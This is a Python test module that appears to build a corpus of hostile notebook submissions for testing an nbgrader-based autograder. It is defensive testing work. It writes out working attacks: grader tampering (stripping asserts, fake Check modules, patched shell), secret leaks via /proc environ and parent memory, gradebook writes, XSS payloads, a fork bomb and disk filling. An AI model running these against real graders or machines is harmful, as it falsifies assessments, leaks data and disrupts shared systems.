"""The attack corpus: each submission tries to obtain one thing that it must not.

`build` gives the submitted files, from a copy of the released notebook. Unless said otherwise the
answers of the attacked cell are wrong and deserve nothing, and the answer `duree` is right: its
two points are the attacker's to keep, and those of the neighbours theirs.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

HIDDEN_WORD = "CANARI-TEST-CACHE"
HIDDEN_ARGUMENT = "172.31.77.201"
TOKEN = "CANARI-JETON"
NEIGHBOUR_WORD = "CANARI-VOISIN"
WRONG = "def diffusion(adresse, prefixe):\n    return 'faux'\n"
RIGHT = "duree = 12.5"


@dataclass(frozen=True)
class Attack:
    """One hostile submission. `aim`: points, leak, write, network, page or stop.

    `unfit_for_stock` says why the comparison does not run it without a sandbox; `self_inflicted`,
    that it also breaks the attacker's own later answers, as it would anywhere.
    """

    name: str
    aim: str
    what: str
    build: Callable
    unfit_for_stock: str | None = None
    self_inflicted: bool = False


ATTACKS: list[Attack] = []


def answer(nb, grade_id="diffusion"):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def files_of(nb) -> dict[str, bytes]:
    return {"epreuve.ipynb": nbformat.writes(nb).encode()}


def by_code(name, aim, what, code, after="", **fields):
    """An attack written in the answer cell; `{root}` and `{port}` are those of the arena."""

    def build(nb, arena):
        def filled(text):
            return text.replace("{root}", str(arena.root)).replace("{port}", str(arena.port))

        answer(nb).source = filled(code)
        answer(nb, "duree").source = f"{RIGHT}\n{filled(after)}"
        return files_of(nb)

    ATTACKS.append(Attack(name, aim, what, build, **fields))


def by_surgery(name, aim, what, **fields):
    """An attack that edits the notebook or adds files; decorates `edit(nb, folder)`."""

    def register(edit):
        def build(nb, arena):
            answer(nb).source = WRONG
            answer(nb, "duree").source = RIGHT
            return edit(nb, arena) or files_of(nb)

        ATTACKS.append(Attack(name, aim, what, build, **fields))
        return edit

    return register


# --- points ---------------------------------------------------------------------------------------
by_code(
    "ast_transformer",
    "points",
    "strip the asserts of every later cell",
    WRONG
    + """
import ast
class Sans(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Sans())
""",
)
by_code(
    "input_transformer",
    "points",
    "replace the text of every later cell",
    WRONG + "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
    self_inflicted=True,
)
by_code(
    "patched_shell",
    "points",
    "patch the shell so that cells no longer run",
    WRONG
    + """
shell = get_ipython().__class__
async def rien(self, code, result=None, **options):
    return False
shell.run_code = rien
""",
    self_inflicted=True,
)
by_code(
    "patched_session",
    "points",
    "drop error messages in the kernel's own session",
    WRONG
    + """
session = get_ipython().kernel.session.__class__
envoyer = session.send
def tri(self, stream, kind, *args, **kwargs):
    if kind != "error":
        return envoyer(self, stream, kind, *args, **kwargs)
session.send = tri
""",
)
by_code(
    "display_hook",
    "points",
    "show a result of one's own before each cell",
    WRONG
    + """
get_ipython().events.register("pre_run_cell", lambda *a: get_ipython().displayhook("fait"))
""",
)
by_code(
    "always_equal",
    "points",
    "return an object that is equal to everything",
    """
class Tout(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def diffusion(adresse, prefixe):
    return Tout("x")
""",
)
by_code(
    "history",
    "points",
    "read the expected value in the running test's text",
    """
import re
def diffusion(adresse, prefixe):
    return re.search(re.escape(repr(adresse)) + r".*?== '([\\d.]+)'", In[-1].replace('"', "'"))[1]
""",
)
by_code(
    "frames",
    "points",
    "read the expected value in the caller's frames",
    """
import sys
def diffusion(adresse, prefixe):
    cadre = sys._getframe(1)
    while cadre:
        for source in (cadre.f_locals, cadre.f_globals):
            if isinstance(source.get("ATTENDUS"), dict):
                return source["ATTENDUS"][adresse]
        cadre = cadre.f_back
    return "faux"
""",
)
by_code(
    "next_calls",
    "leak",
    "read the hidden arguments among the calls that were asked for together",
    """
def diffusion(adresse, prefixe):
    marche = (marche.gi_frame.f_back for _ in [0])
    cadre = next(marche)
    while cadre:
        for valeur in list(cadre.f_locals.values()):
            for appel in valeur if type(valeur) is list else []:
                autre = type(appel) is dict and "args" in appel and appel["args"][0][1]
                if autre and autre != "10.0.0.1":
                    return autre
        cadre = cadre.f_back
    return "faux"
""",
)
by_code(
    "garbage",
    "points",
    "look for the expected values among all live objects",
    """
import gc
def diffusion(adresse, prefixe):
    for objet in gc.get_objects():
        if type(objet) is dict and adresse in objet and type(objet[adresse]) is str:
            return objet[adresse]
    return "faux"
""",
)
by_code(
    "own_check",
    "points",
    "define a Check of one's own",
    WRONG
    + """
class Check:
    def __init__(self, points, lesson=None): self.points = points
    def aspect(self, *a, **k):
        import contextlib
        return contextlib.suppress(Exception)
    def equal(self, *a, **k): pass
    def result(self): return self.points
""",
)
by_code(
    "patched_check",
    "points",
    "patch the comparison inside our package",
    WRONG
    + """
import gmsi.exercise._check as check_module
check_module.same = lambda value, expected: True
""",
)
by_code(
    "replaced_module",
    "points",
    "put a false gmsi.exercise in sys.modules",
    WRONG
    + """
import sys, types, contextlib
class Check:
    def __init__(self, points, lesson=None): self.points = points
    def aspect(self, *a, **k): return contextlib.suppress(Exception)
    def equal(self, *a, **k): pass
    def result(self): return self.points
faux = types.ModuleType("gmsi.exercise")
faux.Check = Check
sys.modules["gmsi.exercise"] = faux
globals()["Check"] = Check
""",
)
by_code(
    "patched_builtin",
    "points",
    "make abs() always answer zero",
    WRONG + "import builtins\nbuiltins.abs = lambda value: 0\nabs = builtins.abs",
    after="duree = 999\n",
)
by_code(
    "late_thread",
    "points",
    "a thread that rewrites names while tests run",
    WRONG
    + """
import threading, time
class Tout(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def plus_tard():
    while True:
        get_ipython().user_ns["diffusion"] = lambda a, p: Tout("x")
        get_ipython().user_ns["Check"] = type("C", (), {})
        time.sleep(0.01)
threading.Thread(target=plus_tard, daemon=True).start()
""",
)
by_code(
    "no_errors",
    "points",
    "replace the function that shows errors",
    WRONG + "get_ipython().showtraceback = lambda *a, **k: None\n"
    "get_ipython()._showtraceback = lambda *a, **k: None",
)
by_code(
    "exit_in_function",
    "points",
    "end Python in the middle of the test",
    "import os\ndef diffusion(adresse, prefixe):\n    os._exit(0)",
)
by_code(
    "system_exit",
    "points",
    "raise SystemExit in the middle of the test",
    "def diffusion(adresse, prefixe):\n    raise SystemExit(0)",
)
by_code(
    "forged_frame",
    "points",
    "answer the grader's socket with a message of one's own",
    WRONG
    + """
import os, socket, json, struct
adresse = os.environ.get("GMSI_CALLS")
if adresse:
    for numero in range(30):
        lien = socket.socket(socket.AF_UNIX)
        lien.connect(adresse)
        data = json.dumps({"park": numero, "outputs": [], "accidents": []}).encode()
        lien.sendall(struct.pack("!I", len(data)) + data)
""",
    self_inflicted=True,
)
by_code(
    "refused_calculator",
    "points",
    "compute with the standard library's ipaddress",
    """
import ipaddress
def diffusion(adresse, prefixe):
    return str(ipaddress.ip_network(f"{adresse}/{prefixe}", strict=False).broadcast_address)
""",
)
by_code(
    "hidden_calculator",
    "points",
    "the same, with the module's name built while running",
    """
def diffusion(adresse, prefixe):
    outil = __import__("sserddapi"[::-1])
    return str(outil.ip_network(f"{adresse}/{prefixe}", strict=False).broadcast_address)
""",
)
by_code(
    "calculator_by_subprocess",
    "points",
    "the same, in another Python",
    """
import subprocess, sys
def diffusion(adresse, prefixe):
    nom = "sserddapi"[::-1]
    texte = f"import {nom} as i; print(i.ip_network('{adresse}/{prefixe}', 0).broadcast_address)"
    sortie = subprocess.run([sys.executable, "-c", texte], capture_output=True, text=True)
    return sortie.stdout.strip()
""",
)


@by_surgery("skip_tag", "points", "tag the tests so that they are not run")
def _(nb, arena):
    for name in ("test_diffusion", "test_cachee"):
        answer(nb, name).metadata["tags"] = ["skip-execution"]


@by_surgery("moved_test", "points", "move the tests above, after a stand-in that knows them")
def _(nb, arena):
    tests = [answer(nb, "test_diffusion"), answer(nb, "test_cachee")]
    nb.cells = [c for c in nb.cells if c not in tests]
    at = nb.cells.index(answer(nb))
    double = "class T(str):\n    def __eq__(s, o): return True\ndiffusion = lambda a, p: T('x')"
    nb.cells[at:at] = [new_code_cell(double), *tests]


@by_surgery("edited_test", "points", "empty the tests")
def _(nb, arena):
    answer(nb, "test_diffusion").source = answer(nb, "test_cachee").source = "pass"


@by_surgery("more_points", "points", "raise the points of an easy test")
def _(nb, arena):
    answer(nb, "test_duree").metadata.nbgrader.points = 1000


@by_surgery("retyped_test", "points", "turn the tests into text")
def _(nb, arena):
    for name in ("test_diffusion", "test_cachee"):
        cell = answer(nb, name)
        cell.cell_type = "markdown"
        cell.pop("outputs", None), cell.pop("execution_count", None)


@by_surgery("twin_test", "points", "add a second cell with the test's name, empty")
def _(nb, arena):
    for name in ("test_diffusion", "test_cachee"):
        twin = nbformat.from_dict(json.loads(json.dumps(answer(nb, name))))
        twin.source, twin.id = "pass", f"jumeau-{name}"
        nb.cells.append(twin)


@by_surgery("launcher_file", "points", "shadow the kernel's launcher beside the notebook")
def _(nb, arena):
    answer(nb).source = WRONG
    patch = (
        b"import ipykernel.ipkernel as k\n"
        b"async def f(self, code, *a, **o):\n    return {'status': 'ok', 'execution_count': 1,"
        b" 'payload': [], 'user_expressions': {}}\n"
        b"k.IPythonKernel.do_execute = f\n"
        b"from ipykernel import kernelapp\nkernelapp.launch_new_instance()\n"
    )
    return {**files_of(nb), "ipykernel_launcher.py": patch}


@by_surgery("shadow_package", "points", "shadow our package with a folder beside the notebook")
def _(nb, arena):
    check = (
        b"import contextlib\nclass Check:\n    def __init__(self, points, lesson=None):\n"
        b"        self.points = points\n    def aspect(self, *a, **k):\n"
        b"        return contextlib.suppress(Exception)\n    def equal(self, *a, **k): pass\n"
        b"    def result(self): return self.points\n"
    )
    return {**files_of(nb), "gmsi/__init__.py": b"", "gmsi/exercise.py": check}


@by_surgery("site_customize", "points", "a sitecustomize.py beside the notebook")
def _(nb, arena):
    text = b"import builtins\nbuiltins.abs = lambda v: 0\n"
    return {**files_of(nb), "sitecustomize.py": text, ".ipython/profile_default/startup/a.py": text}


# --- leaks ----------------------------------------------------------------------------------------
by_code(
    "read_own_notebook",
    "leak",
    "read the hidden tests in the working folder",
    WRONG + "import glob\nfor nom in glob.glob('*.ipynb'):\n    print(open(nom).read())",
)
by_code(
    "read_source",
    "leak",
    "read the trainer's source notebook",
    WRONG + "print(open('{root}/source/epreuve/epreuve.ipynb').read())",
)
by_code(
    "read_gradebook_text",
    "leak",
    "read the hidden tests in the gradebook",
    WRONG + "print(open('{root}/gradebook.db', 'rb').read().decode('latin-1'))",
)
by_code(
    "read_neighbour",
    "leak",
    "read another learner's submission",
    WRONG + "import glob\nfor nom in glob.glob('{root}/submitted/*/epreuve/*'):\n"
    "    print(open(nom).read())",
)
by_code(
    "watch_cells",
    "leak",
    "print the text of each cell before it runs",
    WRONG + "get_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))",
)
by_code(
    "keep_arguments",
    "leak",
    "record the tests' arguments and print them in a later cell",
    "VUS = []\ndef diffusion(adresse, prefixe):\n    VUS.append(adresse)\n    return 'faux'",
    after="print(VUS)",
)
by_code(
    "keep_arguments_in_file",
    "leak",
    "the same through a file",
    "import os\ndef diffusion(adresse, prefixe):\n"
    "    open('/tmp/vus', 'a').write(adresse + ' ')\n    return 'faux'",
    after="import time\ntime.sleep(0.5)\nimport os\n"
    "print(open('/tmp/vus').read() if os.path.exists('/tmp/vus') else '')",
)
by_code(
    "arguments_in_error",
    "leak",
    "raise an error whose message holds the arguments",
    "def diffusion(adresse, prefixe):\n    raise ValueError(f'vu {adresse}')",
)
by_code(
    "arguments_returned",
    "leak",
    "return the arguments, for the feedback to show",
    "def diffusion(adresse, prefixe):\n    return f'vu {adresse}'",
)
by_code(
    "environment",
    "leak",
    "print the trainer's environment",
    WRONG + "import os\nprint(dict(os.environ))",
)
by_code(
    "other_processes",
    "leak",
    "read the environment of every process",
    WRONG
    + """
import glob
for nom in glob.glob("/proc/*/environ"):
    try:
        print(open(nom, "rb").read().decode("latin-1"))
    except OSError:
        pass
""",
)
by_code(
    "parent_memory",
    "leak",
    "look for the hidden tests in the parent's memory",
    WRONG
    + """
import os
try:
    pid = os.getppid()
    for ligne in open(f"/proc/{pid}/maps"):
        if "[heap]" in ligne:
            debut, fin = (int(x, 16) for x in ligne.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb") as memoire:
                memoire.seek(debut)
                texte = memoire.read(fin - debut).decode("latin-1")
            rang = texte.find("CANARI-TEST" + "-CACHE")
            print(texte[rang:rang + 40] if rang >= 0 else "rien")
except (OSError, ValueError):
    pass
""",
)


@by_surgery("linked_file", "leak", "submit a link to the trainer's source notebook")
def _(nb, arena):
    return {**files_of(nb), "lien.txt": Path(arena.root) / "source/epreuve/epreuve.ipynb"}


@by_surgery("linked_folder", "leak", "submit a link to the trainer's source folder")
def _(nb, arena):
    return {**files_of(nb), "dossier": Path(arena.root) / "source"}


# --- writes ---------------------------------------------------------------------------------------
by_code(
    "write_gradebook",
    "write",
    "write a manual score in the gradebook",
    WRONG
    + """
import sqlite3
base = sqlite3.connect("{root}/gradebook.db")
base.execute("update grade set manual_score = 4")
base.commit()
""",
)
by_code(
    "write_source",
    "write",
    "edit the trainer's source",
    WRONG + "open('{root}/source/epreuve/vol.txt', 'w').write('ici')",
)
by_code(
    "plant_startup",
    "write",
    "plant a start-up file for every later kernel",
    WRONG
    + """
import os
dossier = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(dossier, exist_ok=True)
open(dossier + "/vol.py", "w").write("VOL = 1")
""",
)
by_code(
    "plant_in_trainers_home",
    "write",
    "the same, with the trainer's home written out",
    WRONG
    + """
import os
os.makedirs("{root}/home/.ipython/profile_default/startup", exist_ok=True)
open("{root}/home/.ipython/profile_default/startup/vol.py", "w").write("VOL = 1")
""",
)
by_code(
    "write_package",
    "write",
    "edit our installed package",
    WRONG + "import gmsi, os\nopen(os.path.dirname(gmsi.__file__) + '/vol.txt', 'w').write('ici')",
)
by_code(
    "notebook_as_link",
    "write",
    "replace the notebook by a link that nbgrader writes through",
    WRONG
    + """
import os
for nom in [n for n in os.listdir(".") if n.endswith(".ipynb")]:
    os.unlink(nom)
    os.symlink("{root}/source/epreuve/vol.txt", nom)
""",
)

# --- network --------------------------------------------------------------------------------------
by_code(
    "connect",
    "network",
    "connect to a server of this machine",
    WRONG + "import socket\nsocket.create_connection(('127.0.0.1', {port}), 2).send(b'moi')",
)
by_code(
    "fetch",
    "network",
    "fetch a page by HTTP",
    WRONG + "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{port}/', timeout=2)",
)
by_code(
    "connect_in_function",
    "network",
    "connect while a test runs",
    "import socket\ndef diffusion(adresse, prefixe):\n"
    "    socket.create_connection(('127.0.0.1', {port}), 2).send(adresse.encode())\n"
    "    return 'faux'",
)

# --- pages ----------------------------------------------------------------------------------------
SCRIPT = "<script>document.title='vol'</script><img src=x onerror=alert(1)>"
by_code(
    "html_output",
    "page",
    "display HTML with a script",
    WRONG + f"from IPython.display import HTML, display\ndisplay(HTML({SCRIPT!r}))",
)
by_code(
    "javascript_output",
    "page",
    "display JavaScript",
    WRONG + "from IPython.display import Javascript, display\ndisplay(Javascript('alert(1)'))",
)
by_code(
    "svg_output",
    "page",
    "display a picture that holds a script",
    WRONG + "from IPython.display import SVG, display\n"
    'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\'))',
)
by_code(
    "markdown_output",
    "page",
    "display Markdown that holds a script",
    WRONG + f"from IPython.display import Markdown, display\ndisplay(Markdown({SCRIPT!r}))",
)
by_code(
    "scripted_result",
    "page",
    "return a script where the feedback shows the value",
    f"def diffusion(adresse, prefixe):\n    return {SCRIPT!r}",
)


@by_surgery("markdown_cell", "page", "write a script in a text cell")
def _(nb, arena):
    nb.cells.insert(1, new_markdown_cell(SCRIPT))


@by_surgery("remote_picture", "page", "a picture that tells a server who opens the page")
def _(nb, arena):
    nb.cells.insert(1, new_markdown_cell("![x](http://127.0.0.1:1/mouchard.png)"))


@by_surgery("page_file", "page", "submit a page that Formgrader would serve")
def _(nb, arena):
    return {**files_of(nb), "page.html": SCRIPT.encode()}


# --- stopping others, accidents -------------------------------------------------------------------
MACHINE = "it would take the machine down"


@by_surgery("doubled_id", "stop", "the same grade_id in two kinds of cells")
def _(nb, arena):
    nb.cells.append(new_markdown_cell("x", metadata=answer(nb, "test_cachee").metadata))


@by_surgery("old_schema", "stop", "an old version of nbgrader's metadata")
def _(nb, arena):
    for cell in nb.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.schema_version = 1


@by_surgery("unknown_schema", "stop", "a version of nbgrader's metadata yet to come")
def _(nb, arena):
    answer(nb).metadata.nbgrader.schema_version = 99


@by_surgery("broken_file", "stop", "a file that is no notebook", self_inflicted=True)
def _(nb, arena):
    return {"epreuve.ipynb": b"{pas un notebook"}


@by_surgery("old_outputs", "stop", "50 MB of outputs in the submitted file")
def _(nb, arena):
    answer(nb).outputs = [new_output("stream", text="x" * 50_000_000)]


by_code("python_exit", "stop", "end Python in a cell", WRONG + "import os\nos._exit(1)")
by_code("endless_loop", "stop", "loop without end", WRONG + "while True:\n    pass")
by_code(
    "deaf_loop",
    "stop",
    "loop without end, deaf to interruption",
    WRONG + "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
)
by_code(
    "looping_function",
    "stop",
    "a function that never returns",
    "def diffusion(adresse, prefixe):\n    while True:\n        pass",
)
by_code(
    "endless_output",
    "stop",
    "print without end",
    WRONG + "while True:\n    print('x' * 1000)",
    unfit_for_stock=MACHINE,
)
by_code("long_line", "stop", "print one line of 30 MB", WRONG + "print('x' * 30_000_000)")
by_code(
    "memory",
    "stop",
    "take all the memory",
    WRONG + "tas = []\nwhile True:\n    tas.append(bytearray(50_000_000))",
    unfit_for_stock=MACHINE,
)
by_code(
    "fork_bomb",
    "stop",
    "start processes without end",
    WRONG + "import os\nwhile True:\n    os.fork()",
    unfit_for_stock=MACHINE,
)
by_code(
    "full_disk",
    "stop",
    "fill the disk",
    WRONG
    + "i = 0\nwhile True:\n    open(f'/tmp/tas{i}', 'wb').write(b'0' * 10_000_000)\n    i += 1",
    unfit_for_stock=MACHINE,
)
by_code(
    "closed_output",
    "stop",
    "close the standard outputs",
    WRONG + "import os\nos.close(1), os.close(2)",
)
by_code("asks_input", "stop", "wait for the keyboard", WRONG + "input('?')")
by_code(
    "recursion", "stop", "recurse without end", "def diffusion(a, p):\n    return diffusion(a, p)"
)
by_code(
    "huge_value",
    "stop",
    "give the test a value of 200 MB",
    "def diffusion(adresse, prefixe):\n    return 'x' * 200_000_000",
)
by_code(
    "kill_parent",
    "stop",
    "kill the parent process",
    WRONG + "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
)
